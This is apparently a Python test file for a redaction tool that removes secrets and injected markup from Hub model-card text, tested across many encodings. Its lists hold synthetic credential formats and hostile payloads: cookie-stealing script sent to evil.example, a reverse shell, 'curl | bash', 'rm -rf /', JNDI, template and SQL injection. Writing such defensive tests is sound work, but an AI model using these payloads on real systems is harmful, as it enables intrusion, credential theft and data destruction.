"""Secrets and attacks in text from the Hub are removed, whatever their encoding; ordinary cards are unchanged."""

import base64
import html
import json
import random
import string
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq
import pytest
from hypothesis import event, given, settings
from hypothesis import strategies as st

from hub_assets.releases.cleaning import JSON_FIELDS, Cleaner
from hub_assets.releases.redaction import _PATTERNS, redact, selected_json, suspects

_RNG = random.Random(20)


def _drawn(n: int, signs: str = string.ascii_letters + string.digits) -> str:
    return "".join(_RNG.choices(signs, k=n))


_UPPER = string.ascii_uppercase + string.digits
SECRETS = [
    "hf_" + _drawn(34),
    "hf_" + _drawn(37),
    "api_org_" + _drawn(34),
    "ghp_" + _drawn(36),
    "gho_" + _drawn(36),
    "ghs_" + _drawn(36),
    "github_pat_" + _drawn(22) + "_" + _drawn(59),
    "glpat-" + _drawn(20),
    "AKIA" + _drawn(16, _UPPER),
    "ASIA" + _drawn(16, _UPPER),
    "aws_secret_access_key = " + _drawn(40, string.ascii_letters + string.digits + "+"),
    "sk-" + _drawn(48) + "1",
    "sk-proj-" + _drawn(80) + "1",
    "sk-ant-api03-" + _drawn(90) + "1",
    "AIza" + _drawn(35),
    "ya29." + _drawn(60),
    "GOCSPX-" + _drawn(28),
    "xoxb-" + _drawn(12, string.digits) + "-" + _drawn(24),
    "xoxp-" + _drawn(40),
    "https://hooks.slack.com/services/T" + _drawn(8, _UPPER) + "/B" + _drawn(8, _UPPER) + "/" + _drawn(24),
    "sk_live_" + _drawn(24),
    "npm_" + _drawn(36),
    "pypi-" + _drawn(60),
    "r8_" + _drawn(37),
    "nvapi-" + _drawn(60),
    "SG." + _drawn(22) + "." + _drawn(43),
    "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiIxMjM0NTY3ODkwIn0" + "." + _drawn(43),
    "-----BEGIN RSA PRIVATE KEY-----\n" + _drawn(64) + "\n" + _drawn(64) + "\n-----END RSA PRIVATE KEY-----",
    "-----BEGIN OPENSSH PRIVATE KEY-----\n" + _drawn(70),
    "postgresql://admin:" + _drawn(12) + "@db.example.org:5432/x",
    "https://user:" + _drawn(20) + "@example.org/repo.git",
    'password = "' + _drawn(14) + '7a"',
    "API_KEY: " + _drawn(24) + "4b",
    "4" + _drawn(40) + "x9Q2",
    "someone.private@example.org",
]
ATTACKS = [
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='//evil.example'></iframe>",
    "[click](javascript:alert(1))",
    "data:text/html,<b>x</b>",
    "{{7*7}}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}",
    "{% import 'os' as os %}",
    "${7*7}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<%= system('id') %>",
    "#{7*7}",
    "!!python/object/apply:os.system ['id']",
    "!ruby/object:Gem::Installer",
    "__import__('os').system('id')",
    "$(curl evil.example)",
    "curl -s https://evil.example/x.sh | bash",
    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    "x; rm -rf /",
    "${jndi:ldap://evil.example/a}",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "' or '1'='1",
    "1; drop table users",
    "../../../etc/passwd",
    "=cmd|'/C calc'!A0",
]


def _spaced(text: str) -> str:
    return "\u200b".join(text)


def _wide(text: str) -> str:
    return "".join(chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" else sign for sign in text)


ENCODINGS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "percent": lambda text: quote(text, safe=""),
    "percent twice": lambda text: quote(quote(text, safe=""), safe=""),
    "entities": lambda text: "".join(f"&#{ord(sign)};" for sign in text),
    "hexadecimal entities": lambda text: "".join(f"&#x{ord(sign):x};" for sign in text),
    "named entities": lambda text: html.escape(text),
    "backslash": lambda text: "".join(f"\\u{ord(sign):04x}" for sign in text),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64 for addresses": lambda text: base64.urlsafe_b64encode(text.encode()).decode(),
    "base64 twice": lambda text: base64.b64encode(base64.b64encode(text.encode())).decode(),
    "base64 of UTF-16": lambda text: base64.b64encode(text.encode("utf-16-le")).decode(),
    "hexadecimal": lambda text: text.encode().hex(),
    "invisible characters": _spaced,
    "full width": _wide,
}


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("place", ["{}", "A model for text. {} It was trained on news.", "key: {}\nother: 1"])
def test_no_secret_or_attack_leaves(encoding: str, place: str) -> None:
    assert len(SECRETS) + len(ATTACKS) >= 60
    left = []
    for planted in [*SECRETS, *ATTACKS]:
        encoded = ENCODINGS[encoding](planted)
        if encoding.startswith(("base64", "hexadecimal")) and len(planted) < 18 and "entities" not in encoding:
            continue  # too short to tell from words and numbers; they are not executed unless somebody asks for it
        found: Counter[str] = Counter()
        cleaned = redact(place.format(encoded), found)
        if encoded in cleaned or planted in cleaned or "[removed" not in cleaned or not found:
            left.append((planted, cleaned))
    assert left == []


@pytest.mark.parametrize(
    "secret", ["AKIA" + _drawn(16, _UPPER), "xoxb-1234567890", "password:hunter2hunter2", *SECRETS]
)
def test_a_secret_leaves_no_column(secret: str) -> None:
    columns = {
        "task": pa.array([secret]),
        "tags": pa.array([[secret, "mit"]]),
        "cardData": pa.array([json.dumps({"license": secret, "tags": [secret]})]),
        "parts": pa.array([{"name": secret}]),
    }
    cleaner = Cleaner()
    cleaned = cleaner.clean(pa.record_batch(columns)).to_pylist()
    assert secret not in str(cleaned)
    assert json.dumps(secret)[1:-1] not in str(cleaned)
    assert str(cleaned).count("[removed: ") == cleaner.found.total() == 5


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("place", ["{}", "name/{}", "a {}", "\U0001f600{}"])
def test_whatever_redaction_changes_is_suspect(encoding: str, place: str) -> None:
    encode = ENCODINGS[encoding]
    tokens = [_drawn(n) for n in range(32, 60) for _ in range(20)]
    texts = [place.format(encode(text)) for text in (*SECRETS, *ATTACKS, *tokens)]
    changed = [redact(text, Counter()) != text for text in texts]
    assert sum(changed) > 60
    missed = [
        text
        for text, is_changed, is_suspect in zip(texts, changed, suspects(pa.array(texts)).to_pylist(), strict=True)
        if is_changed and not is_suspect
    ]
    assert missed == []


_SIGNS = "aB3_-/+.:= |(\n"


@st.composite
def hidden(draw: st.DrawFn) -> str:
    """Draw text that may contain a secret or an attack, possibly encoded several times, and with other characters."""
    text: str = draw(
        st.sampled_from([*SECRETS, *ATTACKS])
        | st.text(st.sampled_from(_SIGNS), min_size=8, max_size=40)
        | st.text(min_size=8, max_size=30)
        | st.one_of([st.from_regex(pattern) for _, pattern in _PATTERNS.values()])
    )
    for _ in range(draw(st.integers(0, 3))):
        text = (
            draw(st.sampled_from(["", "name/", "a b ", "\U0001f600"]))
            + text
            + draw(st.sampled_from(["", "?", "\U0001f600"]))
        )
        encoded = draw(st.sampled_from(list(ENCODINGS.values())))
        text = encoded(text.encode("utf-8", "replace").decode())[:5_000]
    return text.encode("utf-8", "replace").decode()


@pytest.mark.slow
@settings(max_examples=200)
@given(hidden())
def test_text_that_is_not_suspect_needs_no_redaction(text: str) -> None:
    found: Counter[str] = Counter()
    is_changed = redact(text, found) != text or bool(found)
    event(f"changed: {is_changed}")
    (is_suspect,) = suspects(pa.array([text], pa.string())).to_pylist()
    assert is_suspect or not is_changed


def test_most_names_tags_and_digests_are_not_suspect(real_data: Path) -> None:
    listed = pq.read_table(real_data / "radar" / "2026-08-24" / "models.parquet", columns=["id", "sha", "_id"])
    for name, share in (("id", 0.6), ("sha", 0.2), ("_id", 0.1)):
        assert pc.mean(suspects(listed[name].combine_chunks()).cast("int8")).as_py() < share, name


def test_text_around_a_secret_stays_and_findings_are_counted() -> None:
    found: Counter[str] = Counter()
    text = f"Use {SECRETS[0]} or {SECRETS[3]}, or {SECRETS[1]}."
    assert redact(text, found) == "Use [removed: huggingface] or [removed: github], or [removed: huggingface]."
    assert found == {"huggingface": 2, "github": 1}


@pytest.mark.parametrize(
    "text",
    [
        "TheBloke/Mixtral-8x7B-Instruct-v0.1-GGUF-Q4_K_M",
        "base_model:quantized:meta-llama/Llama-3.2-11B-Vision-Instruct",
        "sha256 d4ab45e67f01d6afc47c9af0d13c7bc2529d39359e5f8bf700a3fe8d7149189a",
        "https://drive.google.com/file/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/view",
        "title = {{The E2E NLG Challenge: 2020 (extended)}}, pages = {{577--586}}",
        "python ${EXAMPLES}/run_squad.py --output_dir ../../output",
        "the game $(k,\\ell)$ and `id`: the id of the sample; <subject> <relation> <object>",
        "arxiv:2310.06825",
        "550e8400-e29b-41d4-a716-446655440000",
        "日本語のモデル — très bien, naïve 🤗",
        "Wav2Vec2-Large-XLSR-53-Indonesian-Artificial-Common-Voice",
    ],
)
def test_ordinary_text_stays(text: str) -> None:
    found: Counter[str] = Counter()
    assert redact(text, found) == text
    assert +found == {}


@pytest.mark.slow
def test_real_cards_have_few_false_redactions(real_data: Path) -> None:
    cards = pq.read_table(real_data / "cards" / "cards.parquet", columns=["front_matter", "text"]).to_pylist()
    texts = [text for card in cards for text in card.values() if text]
    changed = sum("[removed: " in redact(text, Counter()) for text in texts)
    assert changed / len(cards) < 0.01


def test_only_selected_fields_of_a_card_leave() -> None:
    found: Counter[str] = Counter()
    card = {
        "license": "mit",
        "datasets": ["a/b", {"nested": 1}],
        "widget": [{"text": "x"}],
        "co2_eq_emissions": {"emissions": 1},
        "extra_gated_prompt": SECRETS[0],
        "title": ATTACKS[0],
    }
    selected = json.loads(selected_json(json.dumps(card), JSON_FIELDS["cardData"], found) or "")
    assert selected == {
        "datasets": ["a/b"],
        "license": "mit",
        "title": "[removed: markup]fetch('//evil.example/'+document.cookie)[removed: markup]",
    }
    assert selected_json("[1]", JSON_FIELDS["cardData"], found) is None
    assert selected_json('{"license": ', JSON_FIELDS["cardData"], found) is None
    assert found["unreadable_json"] == 1
    assert selected_json("[" * 100_000, JSON_FIELDS["cardData"], found) is None


def test_rows_lists_and_structs_are_cleaned_and_counted_once_per_row() -> None:
    models = pa.struct([("relation", pa.string()), ("models", pa.list_(pa.struct([("id", pa.string())])))])
    batch = pa.record_batch(
        {
            "_id": ["1", "2", "3", "4", "5"],
            "id": ["lab/a", "lab/b", "Gone/Repo", "lab/c", SECRETS[0]],
            "tags": [["x", SECRETS[3]], None, [], ["base_model:gone/repo", "gone/repo-2"], []],
            "baseModels": pa.array([None, {"relation": "merge", "models": [{"id": "gone/Repo"}]}, *[None] * 3], models),
            "description": [ATTACKS[0], ATTACKS[0], "", None, ""],
            "downloads": [1, 2, 3, None, 5],
        }
    )
    cleaner = Cleaner(["gone/repo"])
    cleaned = cleaner.clean(batch)
    assert cleaned.schema == batch.schema
    assert cleaned["_id"].to_pylist() == ["1", "2", "4"]
    assert cleaned["downloads"].to_pylist() == [1, 2, None]
    assert cleaned["tags"].to_pylist() == [["x", "[removed: github]"], None, ["base_model:[withheld]", "gone/repo-2"]]
    assert cleaned["baseModels"].to_pylist()[1] == {"relation": "merge", "models": [{"id": "[withheld]"}]}
    assert cleaner.found["markup"] == 4
    assert cleaner.found["withheld_rows"] == 1
    assert cleaner.found["withheld_mentions"] == 2
    assert cleaner.found["rows_with_unsafe_id"] == 1
